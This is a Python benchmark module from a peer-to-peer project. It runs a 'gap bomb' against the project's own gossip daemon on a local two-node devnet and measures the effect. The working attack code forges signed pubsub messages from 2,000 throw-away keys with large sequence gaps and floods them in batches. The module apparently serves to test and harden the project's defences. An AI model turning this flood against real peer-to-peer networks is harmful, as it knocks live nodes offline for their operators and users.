"""Gossip gap bomb: validly signed gossip from 2,000 throw-away origins, each with a huge gap.

The attack (issue 10, item 3): a hostile peer makes `origins` fresh Ed25519 keys and, for each,
seals two gossip envelopes with the code the daemon itself uses (`fognode.node.gossip.seal`):
sequence S and S + `gap` (4096; every origin's S is sent before any S + gap), signed by the
throw-away key, on a topic every daemon
subscribes to (the monitor's status topic). Each envelope travels as a libp2p pubsub message
whose `from` is the throw-away key's peer id, signed by that key as `strict_signing` demands,
so every check the victim makes passes. All of them (4,000 small messages) are written in
about `burst` seconds (2 s) straight onto the hostile peer's pubsub stream to the victim, in
RPC batches, so the hostile peer's own publish pacing does not slow them. A victim that tracks
whatever it is sent then holds `origins` x (back-fill + gap) missing entries and tries to pull
them all, each pull dialling an origin that does not exist. The hostile peer stays connected
until `seconds` are up and answers the victim's pulls like a relay that has nothing (its own
GossipLayer serves the pull protocol), so the victim's pulls fail rather than hang.

    .venv/bin/python -m fognode.tools.bench.attacks.gap_bomb [--seconds 30] [--control]

measures it by hand until tools/bench/attack.py does: a 2-node devnet (victim + honest peer
publishing its status every 0.5 s), the victim's CPU, RSS, `node.info` latency and the age of
the honest peer's last status, idle, during the attack and after it, then the victim's gossip
tracker metrics. `--control` sends the same 4,000 messages without gaps (seq 1 and 2).
"""
from __future__ import annotations

import argparse
import os
import shutil
import statistics
import tempfile
import time
import urllib.request
from pathlib import Path
from typing import Any

import base58

import trio
from nacl.signing import SigningKey

from fognode.node.gossip import KIND_MESSAGE, seal
from fognode.node.peerid import peer_id_from_pubkey
from fognode.protocols.monitor.status import NodeStatus
from fognode.tools.bench.attacks import hostile_peer

STATUS_TOPIC = "fognode/monitor/status/1"
PUBSUB_SIGNING_PREFIX = b"libp2p-pubsub:"


def valid_status() -> bytes:
    """A status the monitor role accepts: the bomb is about gaps, not content (a status that
    does not decode is refused before any tracking, protocols/monitor/protocol.py)."""
    return NodeStatus(healthy=True, peers=1, uptime_s=1.0, version="bomb", at=time.time()).encode()


def forged_pubsub_messages(key: SigningKey, topic: str, seqs: tuple[int, ...],
                           epoch: int, data: bytes | None = None) -> list[object]:
    """libp2p pubsub messages carrying envelopes of `key` (one per seq) with `data` (16
    random bytes if None), each signed by `key` exactly as py-libp2p's `Pubsub.publish` signs
    its own (so `strict_signing` accepts them)."""
    from libp2p.pubsub.pb import rpc_pb2
    from_id = base58.b58decode(peer_id_from_pubkey(bytes(key.verify_key)))   # raw peer id
    out: list[object] = []
    for seq in seqs:
        env = seal(key, KIND_MESSAGE, epoch, topic, seq,
                   os.urandom(16) if data is None else data)
        msg = rpc_pb2.Message(data=env.raw, topicIDs=[topic], from_id=from_id,
                              seqno=os.urandom(8))
        msg.signature = key.sign(PUBSUB_SIGNING_PREFIX + msg.SerializeToString()).signature
        out.append(msg)
    return out


async def attack(target: str, *, seconds: float, origins: int = 2000, gap: int = 4096,
                 first_seq: int = 1000, burst: float = 2.0, batch: int = 50,
                 topic: str = STATUS_TOPIC, until: trio.Event | None = None,
                 progress: dict[str, float] | None = None) -> dict[str, float]:
    """Bomb `target` (a multiaddr ending in /p2p/<peer id>) for at most `seconds`; returns
    counts: origins used, messages and RPCs written, write failures, seconds spent building
    and sending. With `until`, the messages are written again and again at the same rate
    (a flood that lasts) until that event is set, and the attack returns then; `progress`,
    if given, holds the counts as they grow. Raises DialError when the target cannot be
    reached."""
    from libp2p.peer.id import ID
    from libp2p.pubsub.pb import rpc_pb2

    started = time.monotonic()
    deadline = trio.current_time() + seconds
    epoch = time.time_ns() // 1_000_000
    status = valid_status()
    pairs = [forged_pubsub_messages(SigningKey(os.urandom(32)), topic,
                                    (first_seq, first_seq + gap), epoch, status)
             for _ in range(origins)]
    # every origin's seq S first, then every S + gap: a victim's tasks for one read may run in
    # either order (trio randomises a scheduling batch), so two seqs of one origin in one RPC
    # could reach its tracker gap first, and it would never see the jump
    msgs: list[object] = [p[0] for p in pairs] + [p[1] for p in pairs]
    built = time.monotonic() - started
    sent = rpcs = failed = 0
    async with hostile_peer(target) as hp:
        victim = ID.from_base58(hp.target_peer)
        pubsub = hp.overlay.pubsub
        with trio.move_on_at(deadline):
            while victim not in pubsub.peers:        # the pubsub stream opens after connect
                await trio.sleep(0.01)
        t0 = trio.current_time()
        batches = [msgs[i:i + batch] for i in range(0, len(msgs), batch)]
        rounds = 1 if until is None else 1 << 30
        for i in range(len(batches) * rounds):
            part = batches[i % len(batches)]
            if trio.current_time() >= deadline or (until is not None and until.is_set()):
                break
            stream = pubsub.peers.get(victim)
            if stream is None or not await pubsub.write_msg(
                    stream, rpc_pb2.RPC(publish=part)):  # type: ignore[arg-type]
                failed += len(part)
            else:
                sent += len(part)
                rpcs += 1
            if progress is not None:
                progress.update(messages_sent=float(sent), rpcs=float(rpcs),
                                messages_failed=float(failed))
            # spread the batches evenly over `burst` seconds
            await trio.sleep_until(t0 + burst * (i + 1) / len(batches))
        sending = trio.current_time() - t0
        with trio.move_on_at(deadline):    # stay connected: the victim pulls from us
            await (until.wait() if until is not None else trio.sleep_forever())
    return {"origins": float(origins), "messages_sent": float(sent), "rpcs": float(rpcs),
            "messages_failed": float(failed), "build_s": round(built, 3),
            "send_s": round(sending, 3)}


def _sample(node: Any, seconds: float) -> dict[str, float]:
    """node.info latency (ms), victim CPU % and RSS, honest status age (s), for `seconds`."""
    import psutil
    proc = psutil.Process(node.proc.pid)
    proc.cpu_percent(None)
    lat: list[float] = []
    cpu: list[float] = []
    age: list[float] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t = time.monotonic()
        node.rpc("node.info", timeout=30)
        lat.append((time.monotonic() - t) * 1000)
        age.extend(s["seen_s_ago"] for s in node.rpc("monitor.network", timeout=30)
                   if s["peer_id"] != node.peer_id)
        time.sleep(0.2)
        cpu.append(proc.cpu_percent(None))
    lat.sort()
    return {"info_p50_ms": round(lat[len(lat) // 2], 1),
            "info_p99_ms": round(lat[min(len(lat) - 1, int(len(lat) * 0.99))], 1),
            "cpu_mean": round(statistics.mean(cpu), 1), "cpu_max": round(max(cpu), 1),
            "rss_mb": round(proc.memory_info().rss / 2**20, 1),
            "honest_status_age_max_s": max(age, default=-1.0)}


async def _main(seconds: float, control: bool) -> None:
    from fognode.tools.devnet import Devnet, free_port
    port = free_port()
    root = Path(tempfile.mkdtemp(prefix="gapbomb"))
    net = Devnet(root, 2,
                 extra_args=["--set", "protocols.monitor.status_interval=0.5"])
    net.create()
    net.nodes[0].args = ["--metrics-port", str(port)]
    kw: dict[str, Any] = {"first_seq": 1, "gap": 1} if control else {}
    try:
        net.start_all()
        victim = net.nodes[0]
        print("idle  ", await trio.to_thread.run_sync(_sample, victim, 8.0), flush=True)
        async with trio.open_nursery() as nursery:
            async def bomb() -> None:
                print("attack report", await attack(victim.addr, seconds=seconds, **kw))
            nursery.start_soon(bomb)
            print("during", await trio.to_thread.run_sync(_sample, victim, seconds), flush=True)
        print("after ", await trio.to_thread.run_sync(_sample, victim, 10.0), flush=True)
        body = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10).read()
        for line in body.decode().splitlines():
            if line.startswith(("fognode_node_gossip_tracker", "fognode_node_gossip_refused_total",
                                "fognode_node_gossip_pull_requests_total")):
                print(line)
    finally:
        net.stop_all()
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description="gap bomb against a 2-node devnet, measured")
    ap.add_argument("--seconds", type=float, default=30.0)
    ap.add_argument("--control", action="store_true", help="the same flood without gaps")
    a = ap.parse_args()
    trio.run(_main, a.seconds, a.control)
